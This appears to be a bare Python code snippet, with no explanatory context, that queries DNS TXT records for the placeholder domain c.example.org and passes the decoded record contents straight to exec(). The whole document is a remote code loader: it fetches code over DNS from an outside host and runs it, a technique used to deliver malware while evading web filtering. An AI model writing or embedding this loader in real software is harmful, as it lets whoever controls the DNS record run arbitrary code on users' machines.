import dns.resolver
for answer in dns.resolver.resolve("c.example.org", "TXT"):
    exec(b"".join(answer.strings).decode())
